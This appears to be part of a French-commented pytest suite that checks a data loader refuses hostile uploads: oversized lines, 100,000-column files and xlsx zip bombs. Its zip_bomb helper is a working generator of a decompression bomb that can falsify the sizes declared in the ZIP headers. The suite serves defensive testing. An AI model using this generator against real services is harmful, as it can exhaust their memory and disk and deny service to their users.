    rows = lignes(2)
    table = pa.table({c: pa.array([r[c] or None for r in rows], pa.string()) for c in rows[0]})
    table = table.set_column(table.column_names.index(column), column, array)
    out = io.BytesIO()
    pq.write_table(table, out)
    result = check(con, out.getvalue(), f"types_{column}.parquet")
    if expected is None:
        assert result.status == "loaded" and result.accepted == 2, result.rejections
    elif result.status == "refused":
        assert expected in result.message, result.message
    else:
        assert result.rejected >= 1 and all(m.startswith(expected) for m in result.rejections), result.rejections


def test_xlsx_with_a_wrong_dimension_loses_no_row(con):
    """openpyxl en lecture seule s'arrête à la dimension déclarée : une dimension « A1 » ne doit rien perdre."""
    rows = lignes(6)
    workbook = openpyxl.Workbook()
    workbook.active.append(list(rows[0]))
    for row in rows:
        workbook.active.append([v or None for v in row.values()])
    out = io.BytesIO()
    workbook.save(out)
    for dimension in ("A1", "A1:C3"):
        data = _rewrite_sheet(
            out.getvalue(), lambda xml, d=dimension: re.sub(rb'ref="A1:P7"', f'ref="{d}"'.encode(), xml)
        )
        result = check(con, data, f"dimension_{dimension}.xlsx")
        assert result.status in ("loaded", "already_loaded")
        assert (result.rows_read, result.accepted) == (6, 6)


# ---------------------------------------------------------------- cas explicites lents


def assert_fast_refusal(con, data: bytes, name: str, fragment: str, seconds: float = 10.0) -> ResultatChargement:
    start = time.perf_counter()
    result = check(con, data, name)
    elapsed = time.perf_counter() - start
    assert result.status == "refused", result.message
    assert fragment in result.message, result.message
    assert elapsed < seconds, f"{name} : {elapsed:.1f} s"
    return result


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["sans_separateur", "separateurs", "ligne_de_donnees", "guillemets"])
def test_a_single_50_mb_line(con, kind):
    header = ",".join(ligne()).encode() + b"\n"
    data = {
        "sans_separateur": b"a" * 50_000_000,
        "separateurs": b"a," * 25_000_000,  # 25 millions de colonnes si on la découpait
        "ligne_de_donnees": header + b"x;" * 25_000_000 + b"\n",
        "guillemets": header + b'"' + b"y" * 50_000_000 + b'"\n',
    }[kind]
    assert_fast_refusal(con, data, f"ligne_{kind}.csv", "caractères")


@pytest.mark.slow
def test_100000_columns(con):
    wide = ",".join(f"c{i}" for i in range(100_000)).encode() + b"\n" + b"v," * 99_999 + b"v\n"
    assert_fast_refusal(con, wide, "colonnes.csv", "100\u202f000 colonnes")
    # Un en-tête valide et une ligne de 100 000 cellules : la ligne est malformée, le fichier le dit.
    data = csv_bytes(lignes(2)) + b"v," * 99_999 + b"v\n"
    result = check(con, data, "ligne_large.csv")
    assert (result.status, result.rows_read, result.accepted, result.rejected) == ("loaded", 3, 2, 1)
    assert result.rejections == {"nombre de colonnes incorrect": 1}
    table = pa.table({f"c{i}": pa.array(["v"]) for i in range(100_000)})
    out = io.BytesIO()
    pq.write_table(table, out)
    assert_fast_refusal(con, out.getvalue(), "colonnes.parquet", "100\u202f000 colonnes")


def zip_bomb(size_mb: int = 300, declared: int | None = None) -> bytes:
    """Un vrai classeur .xlsx dont la feuille se décompresse en size_mb Mo de lignes identiques (≈ 1 Mo compressé).

    declared : la taille décompressée inscrite dans le répertoire central, si elle doit mentir.
    """
    workbook = openpyxl.Workbook()
    workbook.active.append(["id_beneficiaire", "code_ali"])
    skeleton = io.BytesIO()
    workbook.save(skeleton)
    source = zipfile.ZipFile(io.BytesIO(skeleton.getvalue()))
    out = io.BytesIO()
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    chunk = row * (10**6 // len(row))
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for info in source.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                archive.writestr(info, source.read(info.filename))
                continue
            with archive.open(info.filename, "w", force_zip64=False) as sheet:
                sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
                for _ in range(size_mb):
                    sheet.write(chunk)
                sheet.write(b"</sheetData></worksheet>")
    data = bytearray(out.getvalue())
    if declared is not None:  # la taille mentie, dans l'en-tête local et dans le répertoire central
        name = b"xl/worksheets/sheet1.xml"
        for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
            at = 0
            while (at := data.find(signature, at)) >= 0:
                name_at = at + (30 if signature == b"PK\x03\x04" else 46)
                if data[name_at : name_at + len(name)] == name:
                    data[at + offset : at + offset + 4] = declared.to_bytes(4, "little")
                at += 4
    return bytes(data)


@pytest.mark.slow
def test_zip_bomb_is_refused_without_being_inflated(con):
    data = zip_bomb(300)
    assert len(data) < 2 * 10**6
    assert sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(data)).infolist()) > 300 * 10**6
    tracemalloc.start()
    try:
        result = assert_fast_refusal(con, data, "bombe.xlsx", "Mo une fois décompressé", seconds=5)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 50 * 10**6, f"{peak / 1e6:.0f} Mo alloués : la feuille a été décompressée"
    assert "300" in result.message
    # Renommée en .csv, c'est toujours un zip : même refus.
    assert_fast_refusal(con, data, "bombe.csv", "Mo une fois décompressé", seconds=5)


@pytest.mark.slow
def test_zip_bomb_lying_about_its_size_is_refused(con):
    """Taille déclarée de 2 000 octets : zipfile n'en rend pas plus, la feuille est illisible (CRC faux)."""
    data = zip_bomb(300, declared=2_000)
    assert max(i.file_size for i in zipfile.ZipFile(io.BytesIO(data)).infolist()) < 10**6
    assert_fast_refusal(con, data, "menteuse.xlsx", "Excel", seconds=5)
